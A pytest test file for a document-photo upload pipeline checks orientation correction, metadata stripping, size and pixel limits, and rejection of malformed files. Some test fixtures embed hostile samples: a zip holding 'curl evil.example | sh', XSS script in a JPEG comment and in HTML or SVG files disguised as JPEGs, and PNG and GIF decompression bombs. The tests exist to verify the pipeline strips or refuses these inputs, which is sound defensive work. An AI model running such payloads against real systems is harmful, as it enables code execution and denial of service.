"""The document photo pipeline, as a resident or a reviewer would notice it.

No Django here: jiedao.lib.photos (imported as jiedao.intake.photos) is plain Pillow.
"""

from __future__ import annotations

import io
import pickle
import struct
import warnings
import zipfile
import zlib

import pillow_heif
import pytest
from PIL import (
    ExifTags,
    Image,
    ImageChops,
    ImageCms,
    ImageDraw,
    ImageFile,
    ImageStat,
    JpegImagePlugin,
)

from jiedao.intake import photos
from jiedao.intake.photos import (
    ACCEPTED_FORMATS,
    LONG_EDGE,
    MAX_UPLOAD_BYTES,
    PhotoRejected,
    ProcessedPhoto,
    process_photo,
)
from jiedao.ops.sample_photos import KINDS, sample_document_photo

RED = (230, 20, 20)
BLUE = (20, 40, 230)


# --------------------------------------------------------------------------
# helpers


def process(data: bytes, name: str = "photo.jpg", **kwargs) -> ProcessedPhoto:
    f = io.BytesIO(data)
    f.name = name
    return process_photo(f, **kwargs)


def rejection(data: bytes, name: str = "photo.jpg") -> PhotoRejected:
    with pytest.raises(PhotoRejected) as info:
        process(data, name)
    exc = info.value
    assert exc.message and exc.message[0].isupper() and exc.message.endswith(".")
    return exc


def encode(image: Image.Image, fmt: str = "JPEG", **kwargs) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **kwargs)
    return out.getvalue()


def jpeg_markers(data: bytes) -> list[int]:
    """Walk a JPEG: the marker of every segment, checking it ends at its EOI."""
    assert data[:2] == b"\xff\xd8", "does not start with SOI"
    markers, pos = [], 2
    while True:
        assert data[pos] == 0xFF, f"no marker at {pos}"
        marker = data[pos + 1]
        markers.append(marker)
        length = struct.unpack(">H", data[pos + 2 : pos + 4])[0]
        pos += 2 + length
        if marker == 0xDA:  # SOS: entropy-coded data up to the next real marker
            while not (data[pos] == 0xFF and data[pos + 1] not in (0x00, *range(0xD0, 0xD8))):
                pos += 1
            if data[pos + 1] == 0xD9:
                assert pos + 2 == len(data), f"{len(data) - pos - 2} bytes after EOI"
                return markers


def assert_clean_jpeg(data: bytes) -> Image.Image:
    """A fresh baseline JPEG: SOI..EOI, nothing after, no metadata segment."""
    assert data.startswith(b"\xff\xd8") and data.endswith(b"\xff\xd9")
    markers = jpeg_markers(data)
    # APP0 (JFIF header), quantisation and Huffman tables, baseline frame, scan.
    assert set(markers) <= {0xE0, 0xDB, 0xC4, 0xC0, 0xDA}, [hex(m) for m in markers]
    assert markers.count(0xDA) == 1, "not a single-scan baseline JPEG"
    im = Image.open(io.BytesIO(data))
    assert im.format == "JPEG" and im.mode == "RGB"
    assert len(im.getexif()) == 0
    assert not {"exif", "icc_profile", "comment", "xmp", "photoshop"} & set(im.info)
    im.load()
    return im


def seg(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def flat_grey_jpeg(
    width: int, height: int, *, progressive: bool = False, with_scan: bool = True
) -> bytes:
    """A real, decodable, mid-grey greyscale JPEG of any size, built by hand.

    With one-symbol Huffman tables every 8x8 block is two zero bits, so a
    200-megapixel photo is under 1 MB and takes milliseconds to build.
    """
    sof = 0xC2 if progressive else 0xC0
    header = (
        b"\xff\xd8"
        + seg(0xDB, b"\x00" + bytes([1] * 64))
        + seg(sof, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
        + seg(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")  # DC: category 0 -> "0"
        + seg(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\x00")  # AC: EOB -> "0"
        + seg(0xDA, b"\x01\x01\x00\x00\x3f\x00")
    )
    if not with_scan:
        return header
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    return header + bytes((blocks * 2 + 7) // 8) + b"\xff\xd9"


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int, idat: bytes = b"") -> bytes:
    """A 1-bit PNG whose header claims width x height."""
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + png_chunk(b"IDAT", idat or zlib.compress(bytes(64)))
        + png_chunk(b"IEND", b"")
    )


def sideways(stored_size, orientation, corners):
    """A JPEG as a phone stores it: pixels sideways, EXIF Orientation to fix them."""
    w, h = stored_size
    im = Image.new("RGB", stored_size, "white")
    draw = ImageDraw.Draw(im)
    s = min(w, h) // 5
    boxes = {
        "top-left": (0, 0, s, s),
        "top-right": (w - s, 0, w, s),
        "bottom-left": (0, h - s, s, h),
        "bottom-right": (w - s, h - s, w, h),
    }
    for corner, colour in corners.items():
        draw.rectangle(boxes[corner], fill=colour)
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    return encode(im, "JPEG", quality=95, exif=exif)


def colour_at(im: Image.Image, corner: str) -> tuple[int, int, int]:
    w, h = im.size
    m = min(w, h) // 20
    x = m if "left" in corner else w - 1 - m
    y = m if "top" in corner else h - 1 - m
    return im.getpixel((x, y))


def close_to(actual, expected, tolerance=40) -> bool:
    return all(abs(a - e) <= tolerance for a, e in zip(actual, expected))


@pytest.fixture
def draft_calls(monkeypatch):
    """Record every JPEG draft(): (size before, size asked for, size decoded)."""
    calls = []
    original = JpegImagePlugin.JpegImageFile.draft

    def spy(self, mode, size):
        before = self.size
        result = original(self, mode, size)
        calls.append((before, size, self.size))
        return result

    monkeypatch.setattr(JpegImagePlugin.JpegImageFile, "draft", spy)
    return calls


@pytest.fixture
def no_pixel_decoding(monkeypatch):
    """Fail the test if any image's pixels get decoded."""

    def refuse(self):
        raise AssertionError(f"decoded the pixels of a {self.format} {self.size}")

    monkeypatch.setattr(ImageFile.ImageFile, "load", refuse)
    for plugin in Image.OPEN.values():
        cls = plugin[0]
        if isinstance(cls, type) and "load" in vars(cls):
            monkeypatch.setattr(cls, "load", refuse)


@pytest.fixture(scope="module")
def twelve_megapixel_id_photo() -> bytes:
    return sample_document_photo("id_front", seed=12, size=(4000, 3000))


# --------------------------------------------------------------------------
# photos taken sideways


@pytest.mark.parametrize(
    "orientation, stored_size, stored_corners",
    [
        # Phone turned a quarter clockwise: the picture's top is on the left.
        (6, (200, 300), {"bottom-left": RED, "top-left": BLUE}),
        # A quarter anticlockwise.
        (8, (200, 300), {"top-right": RED, "bottom-right": BLUE}),
        # Upside down.
        (3, (300, 200), {"bottom-right": RED, "bottom-left": BLUE}),
    ],
)
def test_photo_taken_sideways_comes_out_upright(orientation, stored_size, stored_corners):
    result = process(sideways(stored_size, orientation, stored_corners))

    out = assert_clean_jpeg(result.content)
    assert (result.width, result.height) == out.size == (300, 200)
    assert close_to(colour_at(out, "top-left"), RED)
    assert close_to(colour_at(out, "top-right"), BLUE)
    assert close_to(colour_at(out, "bottom-left"), (255, 255, 255))
    assert close_to(colour_at(out, "bottom-right"), (255, 255, 255))


@pytest.mark.parametrize("orientation", [0, 9, 65535])
def test_nonsense_orientation_leaves_the_photo_as_stored(orientation):
    out = assert_clean_jpeg(process(sideways((300, 200), orientation, {"top-left": RED})).content)

    assert out.size == (300, 200)
    assert close_to(colour_at(out, "top-left"), RED)


def test_large_sideways_photo_is_upright_even_when_decoded_at_reduced_scale(draft_calls):
    # 12 MP stored sideways: draft() halves it, the orientation must survive that.
    data = sideways((4400, 3000), 6, {"bottom-left": RED, "top-left": BLUE})

    result = process(data)

    assert draft_calls and draft_calls[0][2] == (2200, 1500)
    out = assert_clean_jpeg(result.content)
    assert out.size == (1364, 2000)
    assert close_to(colour_at(out, "top-left"), RED)
    assert close_to(colour_at(out, "top-right"), BLUE)


def test_large_sideways_photo_is_upright_even_if_draft_loses_the_exif(monkeypatch):
    original = JpegImagePlugin.JpegImageFile.draft

    def draft_losing_exif(self, mode, size):
        result = original(self, mode, size)
        self.info.pop("exif", None)
        self._exif = None
        return result

    monkeypatch.setattr(JpegImagePlugin.JpegImageFile, "draft", draft_losing_exif)
    data = sideways((4400, 3000), 8, {"top-right": RED, "bottom-right": BLUE})

    out = assert_clean_jpeg(process(data).content)

    assert out.size == (1364, 2000)
    assert close_to(colour_at(out, "top-left"), RED)
    assert close_to(colour_at(out, "top-right"), BLUE)


@pytest.mark.parametrize("orientation", [3, 6, 8])
def test_sideways_sample_id_card_matches_the_upright_one(orientation):
    upright = process(sample_document_photo("id_front", seed=4))
    turned = process(sample_document_photo("id_front", seed=4, exif_orientation=orientation))

    a, b = assert_clean_jpeg(upright.content), assert_clean_jpeg(turned.content)
    assert a.size == b.size == (1600, 1000)
    assert max(ImageStat.Stat(ImageChops.difference(a, b)).mean) < 4


# --------------------------------------------------------------------------
# no metadata leaves the pipeline


def test_location_and_camera_details_are_removed():
    data = sample_document_photo("household_register", gps=True)
    source = Image.open(io.BytesIO(data)).getexif()
    gps = source.get_ifd(ExifTags.IFD.GPSInfo)
    assert gps[ExifTags.GPS.GPSLatitudeRef] == "N" and gps[ExifTags.GPS.GPSLatitude][0] == 31
    assert source[ExifTags.Base.Model] == "Sample Phone"

    result = process(data)

    out = assert_clean_jpeg(result.content)
    assert len(out.getexif()) == 0
    assert out.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
    assert b"Exif\x00\x00" not in result.content
    assert b"Sample Phone" not in result.content and b"Jiedao" not in result.content


@pytest.mark.parametrize("fmt", ["PNG", "WEBP", "HEIF"])
def test_location_is_removed_from_every_accepted_format(fmt):
    data = sample_document_photo("id_back", size=(480, 300), gps=True, fmt=fmt)
    source = Image.open(io.BytesIO(data))
    assert source.format == fmt
    assert source.getexif().get_ifd(ExifTags.IFD.GPSInfo), "fixture should carry GPS"

    result = process(data, name=f"photo.{fmt.lower()}")

    assert result.source_format == fmt
    assert b"Exif\x00\x00" not in result.content
    assert len(assert_clean_jpeg(result.content).getexif()) == 0


def test_colour_profile_comment_and_xmp_are_not_copied():
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/>CreatorTool=SecretPhone</x:xmpmeta>'
    data = encode(
        Image.new("RGB", (400, 300), (90, 140, 200)),
        "JPEG",
        icc_profile=srgb,
        comment=b"taken at home, 12 Nanjing Road",
        xmp=xmp,
        dpi=(300, 300),
    )

    result = process(data)

    assert_clean_jpeg(result.content)
    for secret in (b"ICC_PROFILE", b"Nanjing Road", b"SecretPhone", b"http://ns.adobe.com/xap"):
        assert secret not in result.content


# --------------------------------------------------------------------------
# size of the result


def test_long_edge_is_bounded_to_2000_pixels(twelve_megapixel_id_photo):
    result = process(twelve_megapixel_id_photo)

    assert LONG_EDGE == 2000
    assert (result.width, result.height) == (2000, 1500)
    assert assert_clean_jpeg(result.content).size == (2000, 1500)


def test_portrait_page_is_bounded_on_its_long_edge():
    data = encode(Image.new("RGB", (1240, 1754), "white"), "PNG")  # A4 scanned at 150 dpi

    result = process(data, name="scan.png", long_edge=1000)

    assert (result.width, result.height) == (707, 1000)


def test_caller_can_ask_for_a_smaller_long_edge(twelve_megapixel_id_photo):
    result = process(twelve_megapixel_id_photo, long_edge=800)

    assert (result.width, result.height) == (800, 600)


def test_small_photo_is_not_upscaled():
    result = process(sample_document_photo("bank_card", size=(640, 400)))

    assert (result.width, result.height) == (640, 400)
    assert assert_clean_jpeg(result.content).size == (640, 400)


# --------------------------------------------------------------------------
# big phone photos are decoded cheaply


def test_12_megapixel_jpeg_is_decoded_at_half_scale(twelve_megapixel_id_photo, draft_calls):
    result = process(twelve_megapixel_id_photo)

    # Asked for exactly the target size, libjpeg decoded a quarter of the pixels.
    assert draft_calls == [((4000, 3000), (2000, 1500), (2000, 1500))]
    assert result.source_format == "JPEG"


def test_200_megapixel_phone_photo_is_accepted_and_decoded_at_an_eighth(draft_calls):
    data = flat_grey_jpeg(16320, 12240)  # a 200 MP sensor's full-size output
    assert len(data) < MAX_UPLOAD_BYTES
    limit_before = Image.MAX_IMAGE_PIXELS

    result = process(data)

    assert draft_calls == [((16320, 12240), (2000, 1500), (2040, 1530))]
    out = assert_clean_jpeg(result.content)
    assert out.size == (2000, 1500)
    assert close_to(out.getpixel((1000, 750)), (128, 128, 128), 2)
    assert Image.MAX_IMAGE_PIXELS == limit_before, "Pillow's global limit must be restored"


@pytest.mark.parametrize(
    "size, decoded",
    [
        ((2001, 1125), (2001, 1125)),  # just over: decoded as is
        ((3999, 2999), (3999, 2999)),  # under 2x: no scale applies
        ((4000, 3000), (2000, 1500)),
        ((3000, 8100), (750, 2025)),  # portrait, 1/4
        ((16001, 9001), (2001, 1126)),  # 1/8 and still not below 2000
        ((30000, 8000), (3750, 1000)),  # 1/8 is the most libjpeg does
    ],
)
def test_draft_never_decodes_below_the_long_edge(size, decoded, draft_calls):
    result = process(flat_grey_jpeg(*size))

    assert draft_calls[0][2] == decoded
    assert max(result.width, result.height) == 2000


def test_jpeg_above_250_megapixels_is_refused_before_decoding(no_pixel_decoding):
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        exc = rejection(flat_grey_jpeg(20000, 15000, with_scan=False))  # 300 MP

    assert exc.code == "too_many_pixels"
    # Pillow's DecompressionBombWarning is turned into the rejection, not logged.
    assert not [w for w in caught if issubclass(w.category, Image.DecompressionBombWarning)]


def test_progressive_jpeg_is_held_to_the_full_decode_limit(no_pixel_decoding):
    # libjpeg keeps a progressive JPEG's coefficients for the whole image.
    exc = rejection(flat_grey_jpeg(10000, 8000, progressive=True, with_scan=False))  # 80 MP

    assert exc.code == "too_many_pixels"
    assert "10000 x 8000" in exc.message


def test_png_over_64_megapixels_is_refused_before_decoding(no_pixel_decoding):
    exc = rejection(png_claiming(10000, 10000), name="big.png")  # 100 MP: fine as JPEG, not as PNG

    assert exc.code == "too_many_pixels"


def test_png_decompression_bomb_is_refused_without_decoding(no_pixel_decoding):
    # 30000 x 30000 black 1-bit pixels: 110 KB on disk, 900 MP (2.7 GB as RGB) decoded.
    row = bytes(1 + 30000 // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row * 1000) for _ in range(30)) + compressor.flush()
    data = png_claiming(30000, 30000, idat)
    assert len(data) < 200_000
    limit_before = Image.MAX_IMAGE_PIXELS

    exc = rejection(data, name="bomb.png")

    assert exc.code == "too_many_pixels"
    assert Image.MAX_IMAGE_PIXELS == limit_before


# --------------------------------------------------------------------------
# accepted formats


def test_transparent_png_is_put_on_white():
    card = Image.new("RGBA", (600, 400), (0, 0, 0, 0))
    ImageDraw.Draw(card).rectangle((200, 100, 400, 300), fill=(20, 60, 160, 255))

    result = process(encode(card, "PNG"), name="card.png")

    out = assert_clean_jpeg(result.content)
    assert result.source_format == "PNG"
    assert close_to(out.getpixel((10, 10)), (255, 255, 255), 3)
    assert close_to(out.getpixel((300, 200)), (20, 60, 160), 12)


def test_palette_png_with_transparent_index_is_put_on_white():
    image = Image.new("P", (300, 200), 0)
    image.putpalette([0, 0, 0, 200, 30, 30] + [0] * 762)
    ImageDraw.Draw(image).rectangle((100, 50, 200, 150), fill=1)

    out = assert_clean_jpeg(process(encode(image, "PNG", transparency=0), name="x.png").content)

    assert close_to(out.getpixel((5, 5)), (255, 255, 255), 3)
    assert close_to(out.getpixel((150, 100)), (200, 30, 30), 12)


def test_16_bit_greyscale_png_keeps_its_grey():
    image = Image.new("I;16", (300, 200), 32768)  # mid-grey in 16 bits

    out = assert_clean_jpeg(process(encode(image, "PNG"), name="scan.png").content)

    assert close_to(out.getpixel((150, 100)), (128, 128, 128), 2)


def test_cmyk_jpeg_becomes_rgb():
    out = assert_clean_jpeg(
        process(encode(Image.new("CMYK", (300, 200), (0, 255, 255, 0)))).content
    )

    assert close_to(out.getpixel((150, 100)), (255, 0, 0), 12)


def test_webp_photo_is_accepted():
    data = sample_document_photo("bank_card", size=(800, 500), fmt="WEBP")

    result = process(data, name="card.webp")

    assert result.source_format == "WEBP"
    assert assert_clean_jpeg(result.content).size == (800, 500)


def test_iphone_heic_photo_taken_sideways_is_accepted_upright():
    data = sample_document_photo("id_front", size=(640, 400), exif_orientation=6, fmt="HEIF")
    assert pillow_heif.is_supported(data)

    result = process(data, name="IMG_0001.HEIC")

    assert result.source_format == "HEIF"
    assert assert_clean_jpeg(result.content).size == (640, 400)


def test_mpo_photo_keeps_only_its_first_picture():
    first = Image.new("RGB", (400, 300), (200, 40, 40))
    second = Image.new("RGB", (400, 300), (40, 200, 40))
    data = encode(first, "MPO", save_all=True, append_images=[second])
    assert Image.open(io.BytesIO(data)).n_frames == 2

    result = process(data)

    assert result.source_format == "JPEG"
    out = assert_clean_jpeg(result.content)  # ends at its own EOI: no second frame
    assert close_to(out.getpixel((200, 150)), (200, 40, 40), 12)


def test_every_sample_document_kind_goes_through():
    for kind in KINDS:
        result = process(sample_document_photo(kind, size=(800, 500)))
        assert assert_clean_jpeg(result.content).size == (800, 500), kind


# --------------------------------------------------------------------------
# refused uploads


def test_gif_is_refused_as_unsupported():
    exc = rejection(encode(Image.new("P", (50, 50)), "GIF"), name="sticker.gif")

    assert exc.code == "unsupported_format"
    assert "GIF" in exc.message


def test_gif_bomb_is_refused_without_being_parsed(no_pixel_decoding):
    data = bytearray(encode(Image.new("P", (1, 1)), "GIF"))
    data[6:10] = struct.pack("<HH", 65535, 65535)  # logical screen: 4.3 gigapixels

    exc = rejection(bytes(data), name="photo.jpg")

    assert exc.code == "unsupported_format"


@pytest.mark.parametrize("fmt", ["BMP", "TIFF"])
def test_other_image_formats_are_refused_as_unsupported(fmt):
    assert fmt not in ACCEPTED_FORMATS
    exc = rejection(encode(Image.new("RGB", (40, 30)), fmt), name="photo.jpg")

    assert exc.code == "unsupported_format"


def test_truncated_jpeg_is_refused_as_corrupt():
    data = sample_document_photo("id_front", size=(800, 500))

    assert rejection(data[: len(data) // 2]).code == "corrupt"


@pytest.mark.parametrize("fmt, keep", [("JPEG", 20), ("PNG", 40), ("HEIF", 0.5)])
def test_photo_cut_inside_its_header_is_refused_as_corrupt(fmt, keep):
    # Pillow cannot even identify these; their signature says what they were.
    data = sample_document_photo("id_front", size=(320, 200), fmt=fmt)
    cut = data[: keep if isinstance(keep, int) else int(len(data) * keep)]

    assert rejection(cut, name=f"photo.{fmt.lower()}").code == "corrupt"


def test_truncated_png_is_refused_as_corrupt():
    data = sample_document_photo("medical_record", size=(400, 600), fmt="PNG")

    assert rejection(data[: len(data) // 2], name="record.png").code == "corrupt"


def test_html_named_jpg_is_not_an_image():
    data = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"

    assert rejection(data, name="photo.jpg").code == "not_an_image"


def test_svg_named_jpg_is_not_an_image():
    data = (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<script>alert(1)</script><rect width="10" height="10"/></svg>'
    )

    assert rejection(data, name="photo.jpg").code == "not_an_image"


def test_empty_file_is_refused():
    assert rejection(b"").code == "empty"


class SizeOnlyFile(io.RawIOBase):
    """A file of the given size that fails the test if it is read."""

    def __init__(self, size: int):
        self._size, self._pos = size, 0

    def seekable(self):
        return True

    def seek(self, offset, whence=io.SEEK_SET):
        self._pos = {io.SEEK_SET: 0, io.SEEK_CUR: self._pos, io.SEEK_END: self._size}[
            whence
        ] + offset
        return self._pos

    def tell(self):
        return self._pos

    def readinto(self, buffer):
        raise AssertionError("the size check read the file")


def test_21_mb_file_is_refused_without_reading_it():
    with pytest.raises(PhotoRejected) as info:
        process_photo(SizeOnlyFile(21 * 1024 * 1024))

    assert info.value.code == "too_large"
    assert "20 MB" in info.value.message


def test_21_mb_bytes_are_refused_as_too_large():
    data = sample_document_photo("other", size=(400, 300)) + bytes(21 * 1024 * 1024)

    assert rejection(data).code == "too_large"


class Unseekable(io.RawIOBase):
    def __init__(self, data: bytes):
        self._inner = io.BytesIO(data)

    def readable(self):
        return True

    def readinto(self, buffer):
        return self._inner.readinto(buffer)


def test_unseekable_upload_stream_works_and_is_bounded():
    data = sample_document_photo("other", size=(400, 300))

    assert process_photo(Unseekable(data)).width == 400
    with pytest.raises(PhotoRejected) as info:
        process_photo(Unseekable(data), max_bytes=len(data) - 1)
    assert info.value.code == "too_large"


# --------------------------------------------------------------------------
# smuggled bytes


def test_jpeg_with_zip_appended_comes_out_without_it():
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.sh", "curl evil.example | sh")
    data = sample_document_photo("id_front", size=(800, 500)) + archive.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(data))

    result = process(data)

    assert_clean_jpeg(result.content)
    assert b"PK\x03\x04" not in result.content and b"payload.sh" not in result.content
    assert not zipfile.is_zipfile(io.BytesIO(result.content))


def test_jpeg_comment_with_script_comes_out_without_it():
    data = encode(
        Image.new("RGB", (400, 300), "white"),
        "JPEG",
        comment=b"<script>alert(document.cookie)</script>",
    )
    assert b"<script>" in data

    result = process(data)

    assert_clean_jpeg(result.content)
    assert b"<script>" not in result.content and b"alert" not in result.content


def test_output_is_one_whole_jpeg_from_soi_to_eoi():
    content = process(sample_document_photo("disability_certificate", size=(500, 700))).content

    assert content[:2] == b"\xff\xd8" and content[-2:] == b"\xff\xd9"
    jpeg_markers(content)  # walks every segment and the scan, and ends exactly at EOI


# --------------------------------------------------------------------------
# the error type and the sample generator


def test_rejection_carries_a_stable_code_and_a_sentence():
    exc = PhotoRejected("corrupt", "The photo is damaged or incomplete.")

    assert (exc.code, exc.message, str(exc)) == (
        "corrupt",
        "The photo is damaged or incomplete.",
        exc.message,
    )
    again = pickle.loads(pickle.dumps(exc))
    assert (again.code, again.message) == (exc.code, exc.message)


def test_sample_photos_are_deterministic_and_vary_by_seed():
    assert sample_document_photo("id_back", seed=7) == sample_document_photo("id_back", seed=7)
    assert sample_document_photo("id_back", seed=7) != sample_document_photo("id_back", seed=8)


def test_pillow_bomb_limit_is_only_changed_while_opening():
    before = Image.MAX_IMAGE_PIXELS
    rejection(b"not a picture")
    process(sample_document_photo("other", size=(300, 200)))

    assert Image.MAX_IMAGE_PIXELS == before
    assert not hasattr(photos, "django")
